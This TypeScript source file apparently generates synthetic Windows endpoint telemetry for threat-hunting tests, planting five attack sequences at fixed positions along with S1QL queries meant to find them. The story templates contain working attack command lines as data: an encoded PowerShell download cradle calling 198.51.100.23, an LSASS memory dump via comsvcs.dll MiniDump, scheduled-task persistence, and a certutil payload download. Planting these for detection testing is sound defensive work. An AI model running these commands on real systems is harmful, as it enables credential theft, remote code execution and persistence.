/**
 * Attack stories planted in the benign noise at deterministic positions, so tests and example hunts can assert
 * that a hunt finds exactly them. Each story is a few consecutive events on one Windows endpoint.
 */
import { BAD_DOMAINS } from './pools.ts';
import { fakeHex } from './prng.ts';

/** One planted event: the fields that make it part of the story (every key is one the generator's events have). */
export interface StoryEvent {
  readonly storyId: string;
  readonly endpoint: string;
  readonly eventType: string;
  readonly storyline: string;
  readonly srcProcName: string;
  readonly srcProcCmdLine?: string;
  readonly tgtProcName?: string;
  readonly tgtProcPath?: string;
  readonly tgtProcCmdLine?: string;
  readonly fields?: Readonly<Record<string, string | number | null>>;
}

export interface PlantedStory {
  readonly id: string;
  readonly title: string;
  /** MITRE ATT&CK technique. */
  readonly technique: string;
  readonly endpoint: string;
  /** Indices of the story's events in the generated stream, ascending. */
  readonly indices: readonly number[];
  /** A simple S1QL 1.0 query that finds the story in the generated stream... */
  readonly query: string;
  /** ...matching exactly these indices (a subset of `indices`). */
  readonly queryMatches: readonly number[];
}

interface StoryTemplate {
  readonly id: string;
  readonly title: string;
  readonly technique: string;
  readonly endpoint: string;
  readonly query: string;
  /** Offsets (into `events`) of the events `query` matches. */
  readonly hits: readonly number[];
  readonly events: readonly Omit<StoryEvent, 'storyId' | 'endpoint' | 'storyline'>[];
}

// UTF-16LE base64 of: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')
const ENCODED = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')",
  'utf16le',
).toString('base64');
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const BAD_HOST = `x7k2mq9d0f1a3b.appsync-api.eu-west-1.${BAD_DOMAINS[0] ?? 'avsvmcloud.com'}`;

const src = (name: string, path: string, cmd: string) => ({
  srcProcName: name,
  srcProcCmdLine: cmd,
  fields: { srcProcImagePath: path, srcProcDisplayName: name } as Record<string, string | number | null>,
});

export const STORY_TEMPLATES: readonly StoryTemplate[] = [
  {
    id: 'encoded-powershell',
    title: 'Word spawns PowerShell with an encoded command that downloads a script',
    technique: 'T1059.001',
    endpoint: 'ACME-LT-0157',
    query: 'TgtProcCmdLine Contains AnyCase "-enc"',
    hits: [0],
    events: [
      {
        eventType: 'Process Creation',
        srcProcName: 'WINWORD.EXE',
        tgtProcName: 'powershell.exe',
        tgtProcCmdLine: `powershell.exe -NoP -W Hidden -enc ${ENCODED}`,
      },
      {
        ...src('powershell.exe', PS, `powershell.exe -NoP -W Hidden -enc ${ENCODED}`),
        eventType: 'Command Script',
        fields: {
          srcProcImagePath: PS,
          srcProcDisplayName: 'Windows PowerShell',
          srcProcCmdScript: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')",
          srcProcCmdScriptApplicationName: `PowerShell_${PS}_10.0.19041.1`,
          srcProcCmdScriptIsComplete: 'True',
        },
      },
    ],
  },
  {
    id: 'lsass-access',
    title: 'comsvcs.dll MiniDump opens a handle to LSASS and writes a dump file',
    technique: 'T1003.001',
    endpoint: 'FIN-WS-07',
    query: 'TgtProcName = "lsass.exe"',
    hits: [0],
    events: [
      {
        ...src(
          'rundll32.exe',
          'C:\\Windows\\System32\\rundll32.exe',
          'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Users\\Public\\lsass.dmp full',
        ),
        eventType: 'Open Remote Process Handle',
        tgtProcName: 'lsass.exe',
        tgtProcPath: 'C:\\Windows\\System32\\lsass.exe',
        tgtProcCmdLine: 'C:\\Windows\\system32\\lsass.exe',
        fields: {
          srcProcImagePath: 'C:\\Windows\\System32\\rundll32.exe',
          srcProcDisplayName: 'Windows host process (Rundll32)',
          srcProcIntegrityLevel: 'HIGH',
          tgtProcAccessRights: '0x1fffff',
        },
      },
      {
        ...src(
          'rundll32.exe',
          'C:\\Windows\\System32\\rundll32.exe',
          'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Users\\Public\\lsass.dmp full',
        ),
        eventType: 'File Creation',
        fields: {
          srcProcImagePath: 'C:\\Windows\\System32\\rundll32.exe',
          tgtFilePath: 'C:\\Users\\Public\\lsass.dmp',
          tgtFileExtension: 'dmp',
          tgtFileType: 'UNKNOWN',
          tgtFileSize: '52428800',
          tgtFileIsExecutable: 'False',
        },
      },
    ],
  },
  {
    id: 'malicious-scheduled-task',
    title: 'schtasks registers a task that runs an executable from AppData every 15 minutes',
    technique: 'T1053.005',
    endpoint: 'ACME-DT-0048',
    query: 'TaskPath Contains AnyCase "AppData"',
    hits: [1],
    events: [
      {
        eventType: 'Process Creation',
        srcProcName: 'cmd.exe',
        tgtProcName: 'schtasks.exe',
        tgtProcPath: 'C:\\Windows\\System32\\schtasks.exe',
        tgtProcCmdLine:
          'schtasks.exe /create /sc minute /mo 15 /tn "OneDrive Sync Helper" /tr "C:\\Users\\asmith\\AppData\\Roaming\\Microsoft\\OneDriveSync.exe" /f',
      },
      {
        ...src(
          'schtasks.exe',
          'C:\\Windows\\System32\\schtasks.exe',
          'schtasks.exe /create /sc minute /mo 15 /tn "OneDrive Sync Helper" /tr "C:\\Users\\asmith\\AppData\\Roaming\\Microsoft\\OneDriveSync.exe" /f',
        ),
        eventType: 'Task Register',
        fields: {
          srcProcImagePath: 'C:\\Windows\\System32\\schtasks.exe',
          taskName: '\\OneDrive Sync Helper',
          taskPath: 'C:\\Users\\asmith\\AppData\\Roaming\\Microsoft\\OneDriveSync.exe',
          taskTriggerType: 'TIME',
        },
      },
    ],
  },
  {
    id: 'bad-domain-dns',
    title: 'A service resolves a SUNBURST-style C2 subdomain and connects to it',
    technique: 'T1071.004',
    endpoint: 'SQL02',
    query: `DnsRequest Contains AnyCase "${BAD_DOMAINS[0] ?? 'avsvmcloud.com'}"`,
    hits: [0],
    events: [
      {
        eventType: 'DNS Resolved',
        srcProcName: 'svchost.exe',
        fields: { dnsRequest: BAD_HOST, dnsResponse: 'type:  1 203.0.113.77;' },
      },
    ],
  },
  {
    id: 'certutil-download',
    title: 'certutil (a LOLBin) downloads a payload over HTTP',
    technique: 'T1105',
    endpoint: 'HR-WS-02',
    query: 'TgtProcCmdLine Contains AnyCase "urlcache"',
    hits: [0],
    events: [
      {
        eventType: 'Process Creation',
        srcProcName: 'cmd.exe',
        tgtProcName: 'certutil.exe',
        tgtProcPath: 'C:\\Windows\\System32\\certutil.exe',
        tgtProcCmdLine:
          'certutil.exe -urlcache -split -f http://203.0.113.66/invoice.txt C:\\Users\\Public\\invoice.exe',
      },
      {
        ...src(
          'certutil.exe',
          'C:\\Windows\\System32\\certutil.exe',
          'certutil.exe -urlcache -split -f http://203.0.113.66/invoice.txt C:\\Users\\Public\\invoice.exe',
        ),
        eventType: 'GET',
        fields: { srcProcImagePath: 'C:\\Windows\\System32\\certutil.exe', url: 'http://203.0.113.66/invoice.txt' },
      },
    ],
  },
];

/** Below this many events there is no room for stories in the noise; none are planted. */
export const MIN_EVENTS_FOR_STORIES = 100;

/** Where each story goes: story k starts near the middle of the k-th of equal slices of the stream. */
export function planStories(
  count: number,
  seed: number,
): { stories: PlantedStory[]; byIndex: Map<number, StoryEvent> } {
  const stories: PlantedStory[] = [];
  const byIndex = new Map<number, StoryEvent>();
  if (count < MIN_EVENTS_FOR_STORIES) return { stories, byIndex };
  const n = STORY_TEMPLATES.length;
  STORY_TEMPLATES.forEach((template, k) => {
    const start = Math.floor((count * (2 * k + 1)) / (2 * n));
    const storyline = fakeHex(`storyline:${template.id}:${seed}`, 16).toUpperCase();
    const indices: number[] = [];
    template.events.forEach((event, j) => {
      const index = start + j;
      indices.push(index);
      byIndex.set(index, { ...event, storyId: template.id, endpoint: template.endpoint, storyline });
    });
    stories.push({
      id: template.id,
      title: template.title,
      technique: template.technique,
      endpoint: template.endpoint,
      indices,
      query: template.query,
      queryMatches: template.hits.map((j) => start + j),
    });
  });
  return { stories, byIndex };
}
